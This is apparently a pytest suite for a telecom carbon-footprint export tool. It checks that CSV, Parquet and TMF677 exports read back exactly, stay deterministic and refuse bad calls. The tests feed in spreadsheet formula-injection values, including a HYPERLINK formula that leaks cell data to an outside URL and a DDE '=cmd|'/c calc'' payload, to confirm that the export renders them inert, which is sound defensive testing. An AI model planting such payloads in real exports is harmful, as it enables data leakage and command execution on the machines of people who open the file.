"""Exports: read back by other engines they say exactly what is published, and no text in them runs in a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import jsonschema
import polars
import pyarrow as pa
import pyarrow.parquet
import pytest
from deltalake import DeltaTable, write_deltalake

from jobs import cli
from jobs.audit_sql import opened as asked
from jobs.export import FORMULA_STARTS, TABLES, inert, opened, write_csv, write_parquet
from jobs.export_tmf677 import write_tmf677
from jobs.pseudonyms import SERVING_KEY, Key
from jobs.run import PROJECT, CallError, Refused, Settings
from schemas.dictionary import unit
from schemas.odcs import VERSIONS
from schemas.tables import ACCEPTED, CORRECTIONS, PUBLICATIONS, PUBLISHED, REVISIONS
from tests.audit_lake import MONTH, NOW, SMALL, Used, write, write_month

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "'t Hof",
    'quoted "brand", with; all\r\nsigns',
    "",
    "null",
    "007",
)
"""Brands as a hostile or careless export might name them."""


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    """A published month with brands of every kind, and a day of accepted records."""
    return write_hostile_month(tmp_path / "var")


def write_hostile_month(var: Path) -> Settings:
    brands = tuple(Used(f"h{number}", brand=brand) for number, brand in enumerate(HOSTILE))
    found = write_month(var, [*SMALL])
    # The factors of the month are of its brands; only the rows that are read here have the hostile ones.
    write(found, REVISIONS, [published_row(used) for used in brands])
    accepted = {"closed_at": datetime(2026, 10, 15, tzinfo=UTC), "batch": 1, "source": "pgw_pipe", "file_number": 1}
    write(found, ACCEPTED, [accepted | {"octets_up": 1, "octets_down": 2}])
    told = {"subscription_key": SMALL[0].key.hex(), "from_revision": 0, "to_revision": 1, "data_volume_bytes_after": 1}
    write(found, CORRECTIONS, [told | {"publication_id": 1, "reason": reason} for reason in HOSTILE[:1]])
    return found


def published_row(used: Used) -> dict[str, Any]:
    grams = {"volume_gco2e": Decimal("0.000000000001"), "subscription_gco2e": Decimal(475)}
    ends = {"footprint_gco2e_low": Decimal(-1), "footprint_gco2e_high": Decimal("999999999999.999999999999")}
    named = {"subscription_key": used.key.hex(), "brand": used.brand, "network": "mobile", "data_volume_bytes": 2**53 + 1}
    return named | grams | ends | {"footprint_gco2e": Decimal("475.000000000001"), "revision": 1, "publication_id": 1}


def exported(settings: Settings, name: str, out: Path, month: date | None = None) -> int:
    with opened(settings, name, month) as rows:
        return (write_parquet if out.suffix == ".parquet" else write_csv)(rows, out)


def expected(settings: Settings, name: str) -> list[tuple[Any, ...]]:
    """The rows as the lake has them, by another way: `footprint sql`."""
    table = TABLES[name]
    source = REVISIONS.name if table is PUBLISHED else name
    with asked(settings) as connection:
        order = ", ".join(f"{column} NULLS FIRST" for column in table.key)
        return connection.execute(f"SELECT {', '.join(table.names)} FROM {source} ORDER BY {order}").fetchall()


# Read back


@pytest.mark.parametrize("name", TABLES)
def test_parquet_is_read_back_exactly_by_duckdb_and_polars(settings, tmp_path, name):
    out = tmp_path / "out.parquet"

    count = exported(settings, name, out)

    rows = expected(settings, name)
    assert count == len(rows) > 0
    with duckdb.connect() as connection:
        connection.execute("SET TimeZone = 'UTC'")
        assert connection.execute(f"SELECT * FROM read_parquet('{out}')").fetchall() == rows
    assert polars.read_parquet(out).rows() == rows


@pytest.mark.parametrize("name", TABLES)
def test_csv_is_read_back_exactly_by_the_standard_library_and_by_duckdb(settings, tmp_path, name):
    out = tmp_path / "out.csv"

    count = exported(settings, name, out)

    table, rows = TABLES[name], expected(settings, name)
    with out.open(encoding="utf-8", newline="") as file:
        header, *cells = csv.reader(file, strict=True)
    assert header == list(table.names)
    assert [[said(value) for value in row] for row in rows] == cells
    types = {c.name: {"STRING": "VARCHAR", "TIMESTAMP": "TIMESTAMPTZ"}.get(c.sql_type, c.sql_type) for c in table.columns}
    text = [c.name for c in table.columns if c.sql_type == "STRING"]
    bare = ", ".join(f"regexp_replace({c}, '^''', '') AS {c}" for c in text)
    with duckdb.connect() as connection:
        connection.execute("SET TimeZone = 'UTC'")
        options = "header=true, delim=',', quote='\"', escape='\"', auto_detect=false"
        read = f"read_csv('{out}', {options}, columns={types}, allow_quoted_nulls=false)"
        assert connection.execute(f"SELECT * REPLACE ({bare}) FROM {read}").fetchall() == rows
    assert count == len(rows)


def said(value: Any) -> str:
    """A value as a cell of the export has it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return format(value, "f") if isinstance(value, Decimal) else inert(value) if isinstance(value, str) else str(value)


def test_parquet_says_the_meaning_and_unit_of_each_column_and_may_hold_no_null_where_none_is_declared(settings, tmp_path):
    exported(settings, "published", tmp_path / "out.parquet", MONTH)

    schema = pyarrow.parquet.read_schema(tmp_path / "out.parquet")

    assert schema.remove_metadata().equals(pa.schema(PUBLISHED.arrow_schema))
    for column in PUBLISHED.columns:
        field = schema.field(column.name)
        found = {name.decode(): value.decode() for name, value in field.metadata.items()}
        found.pop("PARQUET:field_id", None)
        assert found == {"meaning": column.comment} | ({"unit": unit(column)} if unit(column) else {})
        assert field.nullable is not column.is_required
    assert schema.metadata[b"contract"] == f"published {VERSIONS['published']}".encode()
    assert pyarrow.parquet.read_metadata(tmp_path / "out.parquet").metadata[b"table"] == b"published"


# Formulas


def test_no_cell_of_text_begins_as_a_formula_does_and_every_number_is_a_bare_number(settings, tmp_path):
    exported(settings, "published", tmp_path / "out.csv")

    content = (tmp_path / "out.csv").read_bytes().decode("utf-8")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    for column in PUBLISHED.columns:
        cells = [row[column.name] for row in rows]
        if column.sql_type == "STRING":
            assert not [cell for cell in cells if cell.startswith(tuple(FORMULA_STARTS))]
        elif column.sql_type != "BOOLEAN" and column.sql_type != "DATE":
            assert all(Decimal(cell).is_finite() for cell in cells if cell)
    assert {row["brand"] for row in rows} >= {inert(brand) for brand in HOSTILE}
    assert ",-1.000000000000,999999999999.999999999999," in content  # a negative number is a number
    assert ",9007199254740993," in content
    assert ",0.000000000001," in content
    assert "'-1" not in content


def test_the_reason_of_a_restatement_is_inert_too(settings, tmp_path):
    write(
        settings,
        PUBLICATIONS,
        [{"publication_id": 2, "usage_month": MONTH, "revision": 2, "verdict_id": 1, "reason": "=cmd|'/c calc'!A1"}],
    )

    exported(settings, "publication_history", tmp_path / "out.csv", MONTH)

    assert "\"'=cmd|'/c calc'!A1\"" in (tmp_path / "out.csv").read_text(encoding="utf-8")


def test_csv_of_footprint_sql_is_inert_too(settings, monkeypatch, capsys):
    query = "SELECT brand, -1 AS number FROM revisions WHERE brand LIKE '=%'"

    assert called(monkeypatch, capsys, settings, "sql", query, "--csv") == (
        0,
        'brand,number\n"\'=HYPERLINK(""http://example.org/?""&A1,""click"")",-1\n',
        "",
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_an_inert_text_gives_the_text_back(text):
    assert inert(text).removeprefix("'") == (text.removeprefix("'") if not text.startswith("'") else text)


def test_the_file_is_as_rfc_4180_says(settings, tmp_path):
    exported(settings, "factor_use", tmp_path / "out.csv", MONTH)

    content = (tmp_path / "out.csv").read_bytes()

    assert not content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert content.count(b"\n") == content.count(b"\r\n") == 1 + 4
    assert content.splitlines()[0].startswith(b'"usage_month","revision","network"')


# Which rows


def test_the_same_lake_gives_the_same_octets_however_its_rows_lie(settings, tmp_path):
    again = write_hostile_month(tmp_path / "again")
    table = pa.Table.from_pylist(list(reversed(revisions(again))), schema=REVISIONS.arrow_schema)
    write_deltalake(f"{again.lake}/revisions", table, mode="overwrite")

    digests = set()
    for number, place in enumerate((settings, settings, again)):
        for out in (tmp_path / f"{number}.csv", tmp_path / f"{number}.parquet", tmp_path / f"{number}.jsonl"):
            write_tmf677(place, MONTH, out) if out.suffix == ".jsonl" else exported(place, "published", out, MONTH)
            digests.add((out.suffix, hashlib.sha256(out.read_bytes()).hexdigest()))

    assert len(digests) == 3


def revisions(settings: Settings) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = DeltaTable(f"{settings.lake}/revisions").to_pyarrow_table().to_pylist()
    return found


def test_a_partitioned_table_is_read_with_the_month_of_its_folders(settings, tmp_path):
    rows = revisions(settings)
    other = [row | {"usage_month": date(2026, 9, 1), "publication_id": 9} for row in rows]
    table = pa.Table.from_pylist(rows + other, schema=REVISIONS.arrow_schema)
    exported(settings, "published", tmp_path / "flat.csv", MONTH)
    write_deltalake(f"{settings.lake}/revisions", table, mode="overwrite", schema_mode="overwrite", partition_by=["usage_month"])

    exported(settings, "published", tmp_path / "parts.csv", MONTH)

    assert (tmp_path / "parts.csv").read_bytes() == (tmp_path / "flat.csv").read_bytes()


def test_only_what_the_ledger_says_is_published_now_is_exported(settings, tmp_path):
    rows = revisions(settings)[:2]
    never = [row | {"publication_id": 7, "brand": "never published"} for row in rows]
    second = [row | {"publication_id": 2, "revision": 2} for row in rows]
    write(settings, REVISIONS, never + second)
    write(settings, CORRECTIONS, [{"publication_id": 7, "subscription_key": "of a try that was never published"}])
    write(settings, PUBLICATIONS, [{"publication_id": 2, "usage_month": MONTH, "revision": 2, "reason": "late usage"}])

    for month in (MONTH, None):
        exported(settings, "published", tmp_path / "out.parquet", month)
        found = pyarrow.parquet.read_table(tmp_path / "out.parquet").to_pylist()
        assert [(row["publication_id"], row["revision"]) for row in found] == [(2, 2), (2, 2)]
    assert exported(settings, "corrections", tmp_path / "told.csv") == 1


def test_a_view_of_a_month_without_rows_is_refused(settings, tmp_path):
    assert exported(settings, "completeness", tmp_path / "out.csv", MONTH) == 1

    with pytest.raises(Refused, match="completeness has no such row: nothing is written"):
        exported(settings, "completeness", tmp_path / "none.csv", date(2026, 9, 1))
    assert [path.name for path in tmp_path.glob("none*")] == []


def test_what_belongs_to_no_month_is_not_exported_by_month(settings, tmp_path):
    with pytest.raises(CallError, match="the rows of files_received belong to no month"):
        exported(settings, "files_received", tmp_path / "out.csv", MONTH)


# TMF677

SCHEMA = json.loads((PROJECT / "tests" / "tmf677.schema.json").read_text(encoding="utf-8"))


def validator() -> jsonschema.Draft202012Validator:
    checker = jsonschema.FormatChecker(formats=())

    @checker.checks("date-time", raises=ValueError)
    def _is_instant(value: object) -> bool:
        return datetime.fromisoformat(str(value)).tzinfo is not None

    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    return jsonschema.Draft202012Validator(SCHEMA, format_checker=checker)


def reports_of(out: Path) -> list[dict[str, Any]]:
    text = out.read_text(encoding="utf-8")
    found: list[dict[str, Any]] = (
        json.loads(text) if out.suffix == ".json" else [json.loads(line) for line in text.split("\n")[:-1]]
    )
    return found


@pytest.mark.parametrize("name", ["reports.json", "reports.jsonl"])
def test_every_report_is_valid_and_every_published_row_is_one(settings, tmp_path, name):
    count = write_tmf677(settings, MONTH, tmp_path / name)

    found, rows = reports_of(tmp_path / name), expected(settings, "published")
    assert count == len(found) == len(rows) == len(SMALL) + len(HOSTILE)
    for report in found:
        validator().validate(report)
    assert [report["product"][0]["id"] for report in found] == [row[0] for row in rows]
    assert len({report["id"] for report in found}) == count


def test_a_report_says_exactly_what_is_published(settings, tmp_path):
    key = next(used.key.hex() for used in SMALL if used.name == "ana")

    assert write_tmf677(settings, MONTH, tmp_path / "one.json", key) == 1

    (report,) = reports_of(tmp_path / "one.json")
    assert report["id"] == f"{key}-2026-10-r1"
    assert report["validPeriod"] == {"startDateTime": "2026-10-01T00:00:00+02:00", "endDateTime": "2026-11-01T00:00:00+01:00"}
    assert datetime.fromisoformat(report["creationDate"]) == NOW
    (bucket,) = report["bucket"]
    (counter,) = bucket["bucketCounter"]
    assert counter["value"] == {"amount": 3_000_000_001, "units": "byte"}
    assert counter["valueName"] == "3 GB"
    # 12.3 g/GB · 3.000000001 GB and 475 g a month, unrounded; nulls are left out.
    assert {c["name"]: c["value"] for c in counter["characteristic"]} == {
        "network": "mobile",
        "brand": "Alpha",
        "data_volume_bytes": 3_000_000_001,
        "data_volume_gb_displayed": 3,
        "is_estimated": False,
        "volume_gco2e": "36.900000012300",
        "subscription_gco2e": "475.000000000000",
        "footprint_gco2e": "511.900000012300",
        "footprint_gco2e_displayed": 512,
        "factor_set": "FR-RCP2-NAT-2022",
        "is_national_default": True,
        "method_id": "fr-rcp-fai-v2",
        "revision": 1,
        "publication_id": 1,
    }


def test_the_ends_of_an_interval_are_characteristics_where_there_are_any(settings, tmp_path):
    write_tmf677(settings, MONTH, tmp_path / "one.json", Used("h0").key.hex())

    (report,) = reports_of(tmp_path / "one.json")
    said = {c["name"]: c["value"] for c in report["bucket"][0]["bucketCounter"][0]["characteristic"]}
    assert (said["footprint_gco2e_low"], said["footprint_gco2e_high"]) == ("-1.000000000000", "999999999999.999999999999")


@pytest.mark.parametrize(
    "spoil",
    [
        lambda report: report.pop("@type"),
        lambda report: report.update(creationDate="yesterday"),
        lambda report: report["bucket"][0].update({"@type": "BucketRef"}),
        lambda report: report["bucket"][0]["bucketCounter"][0]["value"].update(amount="1"),
        lambda report: report["bucket"][0]["bucketCounter"][0]["characteristic"][0].update(value=1),
        lambda report: report["bucket"][0]["bucketCounter"][0].update(footprint="1"),
        lambda report: report["product"][0].pop("id"),
    ],
)
def test_the_schema_refuses_what_the_standard_does_not_know(settings, tmp_path, spoil):
    write_tmf677(settings, MONTH, tmp_path / "one.json", SMALL[0].key.hex())
    (report,) = reports_of(tmp_path / "one.json")

    spoil(report)

    with pytest.raises(jsonschema.ValidationError):
        validator().validate(report)


# The command


def called(monkeypatch: pytest.MonkeyPatch, capsys: Any, settings: Settings, *arguments: str) -> tuple[int, str, str]:
    monkeypatch.setenv("FOOTPRINT_VAR", str(settings.var))
    code = cli.main(arguments)
    found = capsys.readouterr()
    return code, found.out, found.err


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("csv", "--table", "published", "--month", "2026-09"), 1, "refused: nothing is published for 2026-09"),
        (("tmf677", "--month", "2026-09"), 2, "error: --out: out.csv ends neither with .jsonl"),
        (("tmf677",), 2, "error: export tmf677 needs --month, and has no --table"),
        (
            ("parquet", "--table", "accepted"),
            2,
            "error: export parquet needs --table, one of published, publications, corrections, received_balance",
        ),
        (("csv", "--table", "published", "--subscription", "x"), 2, "error: export csv needs --table"),
    ],
)
def test_a_wrong_call_says_what_is_wrong_and_leaves_no_file(settings, tmp_path, monkeypatch, capsys, arguments, code, said):
    found = called(monkeypatch, capsys, settings, "export", *arguments, "--out", str(tmp_path / "out.csv"))

    assert found[0] == code
    assert found[2].startswith(said)
    assert list(tmp_path.glob("out*")) == []


def test_a_file_that_was_there_stays_if_the_export_fails(settings, tmp_path, monkeypatch, capsys):
    (tmp_path / "out.csv").write_text("before", encoding="utf-8")

    arguments = ("export", "csv", "--table", "completeness", "--month", "2026-01", "--out", str(tmp_path / "out.csv"))
    assert called(monkeypatch, capsys, settings, *arguments)[0] == 1

    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == "before"
    assert list(tmp_path.glob("*.partial")) == []


def test_a_subscription_is_exported_by_the_operators_own_id_which_is_not_in_the_file(settings, tmp_path, monkeypatch, capsys):
    key = Key(SERVING_KEY, bytes(range(32)))
    settings.keys.mkdir()
    (settings.keys / "serving.key").touch(0o600)
    (settings.keys / "serving.key").write_text(key.secret.hex(), encoding="ascii")
    pseudonym = key.pseudonym("subscription", "SUB-0001").hex()
    write(settings, REVISIONS, [published_row(Used("any")) | {"subscription_key": pseudonym}])
    out = tmp_path / "one.jsonl"

    arguments = ("export", "tmf677", "--month", "2026-10", "--subscription", "SUB-0001", "--out", str(out))
    ended = called(monkeypatch, capsys, settings, *arguments)

    assert ended == (0, f"export    {out}, 1 rows, {out.stat().st_size:,} octets\n", "")
    (report,) = reports_of(out)
    assert report["product"][0]["id"] == pseudonym
    assert "SUB-0001" not in out.read_text(encoding="utf-8")
    nobody = called(monkeypatch, capsys, settings, *arguments[:5], "nobody", *arguments[6:])
    assert nobody == (1, "", "refused: published has no such row: nothing is written\n")


# Memory

_PEAK = """
import resource, sys
from jobs import cli
assert cli.main(["export", "parquet", "--table", "published", "--month", "2026-10", "--out", sys.argv[1]]) == 0
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


def peak_mebibytes(place: Path, subscriptions: int) -> int:
    """Peak memory of a process that exports a month, written as one file with one row group: the worst there is to read."""
    found = write_month(place, [])
    rows = f"""
        SELECT md5(CAST(n AS VARCHAR)) AS subscription_key, DATE '2026-10-01' AS usage_month, 'mobile' AS network,
            'Alpha' AS brand,
            CAST(n AS BIGINT) AS data_volume_bytes, CAST(0 AS BIGINT) AS data_volume_gb_displayed, false AS is_estimated,
            CAST(n * 0.000123 AS DECIMAL(24,12)) AS volume_gco2e, CAST(475 AS DECIMAL(24,12)) AS subscription_gco2e,
            CAST(475 + n * 0.000123 AS DECIMAL(24,12)) AS footprint_gco2e, CAST(NULL AS DECIMAL(24,12)) AS footprint_gco2e_low,
            CAST(NULL AS DECIMAL(24,12)) AS footprint_gco2e_high, CAST(475 AS BIGINT) AS footprint_gco2e_displayed,
            'FR-RCP2-NAT-2022' AS factor_set, true AS is_national_default, 'fr-rcp-fai-v2' AS method_id,
            CAST(1 AS INTEGER) AS revision, CAST(1 AS BIGINT) AS publication_id
        FROM range({subscriptions}) AS numbers(n)"""
    with duckdb.connect() as connection:
        write_deltalake(f"{found.lake}/revisions", connection.execute(rows).to_arrow_reader(1 << 16), mode="overwrite")
    (group,) = (file for file in Path(found.lake, "revisions").glob("*.parquet") if file.stat().st_size > 10_000)
    assert pyarrow.parquet.read_metadata(group).num_row_groups == 1
    environment = {**os.environ, "FOOTPRINT_VAR": str(place), "PYTHONPATH": str(PROJECT)}
    command = [sys.executable, "-c", _PEAK, str(place / "out.parquet")]
    ended = subprocess.run(command, env=environment, capture_output=True, text=True, check=True)
    assert pyarrow.parquet.read_metadata(place / "out.parquet").num_rows == subscriptions
    return int(ended.stdout.splitlines()[-1])


@pytest.mark.slow
def test_a_million_subscriptions_do_not_need_memory_in_proportion(tmp_path):
    few, many = (peak_mebibytes(tmp_path / str(count), count) for count in (2_000, 1_000_000))

    # A million rows of Arrow are 330 MiB and their sort as much again; DuckDB sorts within 192 MB.
    assert many < few + 350
